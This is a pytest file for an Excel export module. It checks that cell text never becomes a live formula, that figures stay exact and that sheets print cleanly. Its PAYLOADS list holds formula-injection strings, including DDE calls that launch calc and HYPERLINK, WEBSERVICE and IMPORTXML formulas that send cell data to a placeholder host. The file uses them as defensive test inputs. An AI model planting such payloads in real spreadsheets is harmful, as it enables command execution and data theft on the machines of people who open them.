"""Exported workbooks: texts stay texts, figures stay exact, the sheet prints and scrolls well."""

import re
import tempfile
import time
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from core.documents.columns import Column, Kind, column_widths, display_width
from core.documents.excel import Cover, Sheet, write_workbook
from core.documents.excel_style import safe_sheet_names
from core.documents.neutral import LONGEST_TEXT, TextTooLong, is_dangerous

PAYLOADS = [
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://192.0.2.1/?x="&A1,"点击")',
    '=WEBSERVICE("http://192.0.2.1")', '=IMPORTXML(CONCAT("http://192.0.2.1?",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")', "=SUM(A1:A9)*cmd|' /C calc'!A0", "=", "==1", '="="', "+1+1",
    "+cmd|' /C calc'!A0", "+HYPERLINK(A1)", "+", "-1+1", "-2+3+cmd|' /C calc'!A0", "-", "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "@", "\t=1+1", "\t", "\r=1+1", "\n=1+1", "\x00=1+1", "\x00",
    "\x01=1+1", "\x0b=1", "＝1+1", "＋1", "－1", "＠A1", " =1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1",
    "\xa0=1", "\u22121+1", "=1+1\ud800", "{=1+1}", "'=1+1",
]  # fmt: skip
AT = datetime(2012, 12, 31, 9, 30)


def reopened(data: bytes):
    return load_workbook(BytesIO(data))


def cells_of(book):
    return [cell for page in book.worksheets for row in page.iter_rows() for cell in row]


def test_payloads_are_at_least_forty():
    assert len(PAYLOADS) >= 40


def test_payload_in_any_place_never_becomes_a_formula():
    rows = [[payload, payload, 1] for payload in PAYLOADS]
    columns = [Column("甲"), Column("乙", Kind.POINTS2), Column("丙", Kind.INTEGER)]
    sheets = [Sheet("明细", columns, rows)]
    for number, payload in enumerate(PAYLOADS):
        sheets.append(Sheet(f"{number}{payload}"[:20], [Column(payload)], [[payload]], title=payload, notes=[payload]))
    covers = [Cover(payload, AT, payload, version=payload, facts=[(payload, payload)]) for payload in PAYLOADS]
    for cover in covers:
        cells = cells_of(reopened(write_workbook(sheets[:1], cover=cover)))
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    cells = cells_of(reopened(write_workbook(sheets)))
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    marked = [cell for cell in cells if isinstance(cell.value, str) and is_dangerous(cell.value)]
    assert len(marked) >= 5 * 30
    assert [cell.value for cell in marked if not cell.quotePrefix] == []


def test_bare_openpyxl_makes_formulas_of_the_same_payloads():
    """The negative control: without the guard the payload is live."""
    book = Workbook(write_only=True)
    book.create_sheet("明细").append(["=1+1"])
    buffer = BytesIO()
    book.save(buffer)
    assert cells_of(reopened(buffer.getvalue()))[0].data_type == "f"


def test_raw_xml_holds_no_formula_element():
    data = write_workbook([Sheet("明细", [Column("=甲")], [[payload] for payload in PAYLOADS])])
    with zipfile.ZipFile(BytesIO(data)) as package:
        pages = [package.read(name) for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
    assert [page.count(b"<f>") + page.count(b"<f ") for page in pages] == [0]


def test_text_survives_except_for_characters_no_file_can_hold():
    texts = ["喆堃昇珺祎玥䶮", "第一行\n第二行", " 前后空格 ", "a\x08b", "甲\r\n乙", "<b>&amp;", "01234567890123456789"]
    page = reopened(write_workbook([Sheet("字", [Column("字")], [[text] for text in texts])])).active
    read = [row[0].value for row in page.iter_rows(min_row=2)]
    assert read == [
        "喆堃昇珺祎玥䶮",
        "第一行\n第二行",
        " 前后空格 ",
        "ab",
        "甲\n乙",
        "<b>&amp;",
        "01234567890123456789",
    ]


def test_text_over_the_limit_is_an_error_and_not_cut():
    fits = write_workbook([Sheet("长", [Column("长")], [["长" * LONGEST_TEXT]])])
    assert len(reopened(fits).active["A2"].value) == LONGEST_TEXT
    with pytest.raises(TextTooLong, match="不得截断"):
        write_workbook([Sheet("长", [Column("长")], [["长" * (LONGEST_TEXT + 1)]])])


def test_figures_are_written_digit_by_digit():
    values = [Decimal("90.5000"), Decimal("0.0001"), Decimal("1E+3"), 905000, -3, Decimal("123456789012.345"), 10**20]
    data = write_workbook([Sheet("数", [Column("数", Kind.POINTS4)], [[value] for value in values])])
    with zipfile.ZipFile(BytesIO(data)) as package:
        written = re.findall(rb"<v>([^<]*)</v>", package.read("xl/worksheets/sheet1.xml"))
    assert [text.decode() for text in written] == [
        "90.5000", "0.0001", "1000", "905000", "-3", "123456789012.345", "1" + "0" * 20,
    ]  # fmt: skip
    assert [Decimal(text.decode()) for text in written] == [Decimal(value) for value in values]


@pytest.mark.parametrize(
    ("value", "error"),
    [
        (0.5, TypeError),
        (object(), TypeError),
        (Decimal("NaN"), ValueError),
        (Decimal("Infinity"), ValueError),
        (110101199001011234, ValueError),
        (Decimal("1.1234567890123456"), ValueError),
    ],
)
def test_value_a_cell_cannot_hold_exactly_is_refused(value, error):
    with pytest.raises(error):
        write_workbook([Sheet("数", [Column("数")], [[value]])])


def test_row_longer_than_the_head_is_refused_and_a_shorter_one_filled():
    with pytest.raises(ValueError, match="第 2 行"):
        write_workbook([Sheet("表", [Column("甲")], [["一"], ["一", "二"]])])
    page = reopened(write_workbook([Sheet("表", [Column("甲"), Column("乙")], [["一"]])])).active
    assert [page["A2"].value, page["B2"].value, page["B2"].border.left.style] == ["一", None, "thin"]


def test_dates_flags_and_blanks_are_typed():
    columns = [Column("日期", Kind.DATE), Column("否决"), Column("说明")]
    page = reopened(write_workbook([Sheet("表", columns, [[date(2012, 12, 31), True, None]])])).active
    assert page["A2"].value == datetime(2012, 12, 31)
    assert page["A2"].number_format == "yyyy-mm-dd"
    assert [page["B2"].value, page["C2"].value] == ["是", None]


def test_time_with_a_zone_is_refused():
    with pytest.raises(ValueError, match="当地时间"):
        write_workbook([Sheet("表", [Column("时间", Kind.DATE)], [[datetime(2012, 1, 1, tzinfo=UTC)]])])


def test_sheet_is_frozen_filtered_and_set_up_for_print():
    columns = [Column("名次", Kind.RANK), Column("单位名称"), Column("得分", Kind.POINTS2)]
    rows = [[1, "安澜县城关镇", Decimal("903.2511")], [2, "安澜县教育局", Decimal("900")]]
    sheet = Sheet("排名", columns, rows, title="2012年度综合考核排名", notes=["单位：分"], freeze=2)
    page = reopened(write_workbook([sheet])).active
    assert page.freeze_panes == "C4"
    assert page.auto_filter.ref == "A3:C5"
    assert page.print_title_rows == "$3:$3"
    assert (page.page_setup.paperSize, page.page_setup.fitToWidth, page.page_setup.fitToHeight) == (9, 1, 0)
    assert page.sheet_properties.pageSetUpPr.fitToPage is True
    assert [page["C4"].number_format, page["C4"].alignment.horizontal] == ["0.00", "right"]
    assert [page["A1"].value, page["A2"].value, page["B3"].value] == ["2012年度综合考核排名", "单位：分", "单位名称"]
    assert page["A1"].alignment.horizontal == "centerContinuous"


def test_wide_sheet_prints_landscape_and_a_narrow_one_upright():
    wide = Sheet("宽", [Column(f"指标名称{n}") for n in range(20)], [])
    narrow = Sheet("窄", [Column("甲")], [])
    pages = reopened(write_workbook([wide, narrow])).worksheets
    assert [page.page_setup.orientation for page in pages] == ["landscape", "portrait"]


def test_cover_names_time_person_version_and_filters():
    cover = Cover("考核结果导出", AT, "考评办 张玥", version="第3版", facts=[("年度", "2012"), ("考核系统", "乡镇")])
    book = reopened(write_workbook([Sheet("排名", [Column("甲")], [])], cover=cover))
    assert book.sheetnames == ["封面", "排名"]
    shown = [tuple(cell.value for cell in row) for row in book["封面"].iter_rows(min_row=2)]
    assert shown == [
        ("导出时间", "2012年12月31日 09:30"),
        ("导出人", "考评办 张玥"),
        ("结果版本", "第3版"),
        ("年度", "2012"),
        ("考核系统", "乡镇"),
        ("工作表 1", "排名"),
    ]


def test_refused_workbook_leaves_no_draft_behind(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with pytest.raises(TypeError):
        write_workbook([Sheet("好", [Column("甲")], [["一"]]), Sheet("坏", [Column("数")], [["1"], [0.5]])])
    assert list(tmp_path.iterdir()) == []


def test_workbook_is_written_to_a_target():
    target = BytesIO()
    assert write_workbook([Sheet("表", [Column("甲")], [["一"]])], target=target) == b""
    assert load_workbook(target).active["A2"].value == "一"


def test_sheet_names_are_made_safe_and_unique():
    names = ["组织/人事[1]", "组织/人事[1]", "'引号'", "", "History", "长" * 40, "长" * 40, "=1+1", "a:b*c?d\\e"]
    assert safe_sheet_names(names) == [
        "组织_人事_1_", "组织_人事_1_(2)", "引号", "表", "History_", "长" * 31, "长" * 28 + "(2)", "=1+1", "a_b_c_d_e",
    ]  # fmt: skip


def test_width_follows_the_widest_text_within_bounds():
    columns = [Column("名次"), Column("单位名称"), Column("说明"), Column("定宽", width=9)]
    assert display_width("安澜县A1") == 8
    assert column_widths(columns, [["1", "安澜县教育和体育局", "长" * 90, "无"]]) == [6, 20, 48, 9]


def test_styled_sheet_costs_about_as_much_as_a_bare_one():
    """The time itself is reported by the bench; here only that nothing is quadratic or styled cell by cell."""
    rows = [[f"单位{n}", n, *[Decimal(n * 7919 % 100_000).scaleb(-2)] * 28] for n in range(300)]
    columns = [Column("单位"), Column("名次", Kind.RANK), *[Column(f"指标{n}", Kind.POINTS2) for n in range(28)]]
    started = time.process_time()
    data = write_workbook([Sheet("排名", columns, rows)])
    assert time.process_time() - started < 5
    styles = reopened(data)._cell_styles
    assert len(styles) < 20
